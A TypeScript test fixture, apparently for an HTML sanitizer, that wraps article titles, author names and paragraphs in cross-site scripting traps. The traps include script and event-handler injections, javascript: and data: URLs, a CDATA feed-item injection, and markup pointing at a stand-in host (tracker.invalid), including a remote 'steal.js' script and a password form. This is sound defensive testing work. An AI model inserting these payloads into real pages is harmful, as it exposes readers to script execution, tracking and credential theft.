// What ill-meaning writers put into titles, names and texts. Each trap stands around text that must stay readable.
// The addresses are below .invalid, which never resolves (RFC 2606).

const RIGHT_TO_LEFT_OVERRIDE = '\u202e';
const POP_DIRECTION = '\u202c';

/** The title with one of six traps. The title itself stays whole in each. */
export function hostileTitle(title: string, place: number): string {
  const traps = [
    `${title}<script>alert("title")</script>`,
    `<img src="x" onerror="alert('title')">${title}`,
    `${title} ]]></title></item><item><title>An item that nobody wrote ]]>`,
    `${RIGHT_TO_LEFT_OVERRIDE}${POP_DIRECTION}${title}${RIGHT_TO_LEFT_OVERRIDE}\u2066\u200b`,
    `<svg onload="alert('title')"><style>*{display:none}</style></svg>${title}`,
    `<a href="javascript:alert('title')">${title}</a>`,
  ];
  return traps[place % traps.length]!;
}

export function hostileAuthor(name: string, place: number): string {
  const traps = [
    `${name}<script>alert("author")</script>`,
    `<b onmouseover="alert('author')">${name}</b>`,
    `${name}"><img src=x onerror=alert(1)>`,
    name,
  ];
  return traps[place % traps.length]!;
}

/** Elements that are nothing but trap. */
const BLOCKS: readonly string[] = [
  '<script>alert("body")</script>',
  '<script src="http://tracker.invalid/steal.js"></script>',
  '<img src="x" onerror="alert(\'body\')">',
  '<img src="http://tracker.invalid/pixel.gif?reader=1" width="1" height="1" alt="">',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg\')"><script>alert("svg")</script><a xlink:href="javascript:alert(1)"><text>free</text></a></svg>',
  '<style>body{display:none} p{background:url("javascript:alert(1)")} @import "http://tracker.invalid/all.css";</style>',
  '<iframe srcdoc="&lt;script&gt;alert(&quot;frame&quot;)&lt;/script&gt;"></iframe>',
  '<iframe src="javascript:alert(1)" width="0" height="0"></iframe>',
  '<meta http-equiv="refresh" content="0;url=http://tracker.invalid/">',
  '<base href="http://tracker.invalid/">',
  '<form action="http://tracker.invalid/login" method="post"><input name="password" type="password" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">Sign in</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<math><mi><mglyph><style><img src="x" onerror="alert(1)"></style></mglyph></mi></math>',
  '<details open ontoggle="alert(1)"></details>',
  '<video poster="javascript:alert(1)"><source onerror="alert(1)"></video>',
];

/** Traps that carry the paragraph within them: its words are to be kept, the rest is not. */
const WRAPPERS: readonly ((html: string) => string)[] = [
  (html) => html.replace('<p>', '<p onclick="alert(1)" style="position:fixed;top:0;left:0;width:100%">'),
  (html) => linkFirstWords(html, 'javascript:alert(document.cookie)'),
  (html) => linkFirstWords(html, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  (html) => html.replace('</p>', '<script>alert("paragraph")</script></p>'),
  (html) =>
    html.replace('<p>', '<p id="location" class="{{constructor.constructor(\'alert(1)\')()}}" x-data="alert(1)">'),
  (html) => linkFirstWords(html, ' java\tscript:alert(1)'),
];

/** The paragraphs in their order, each wrapped in one trap and followed by another. */
export function hostileBody(paragraphs: readonly string[], place: number): string {
  return paragraphs
    .flatMap((html, index) => [
      WRAPPERS[(place + index) % WRAPPERS.length]!(html),
      BLOCKS[(place * 5 + index) % BLOCKS.length]!,
    ])
    .join('\n');
}

function linkFirstWords(html: string, href: string): string {
  return html.replace(/^<p>((?:[^\s<]+ ){3})/, (_, words: string) => `<p><a href="${href}">${words.trim()}</a> `);
}
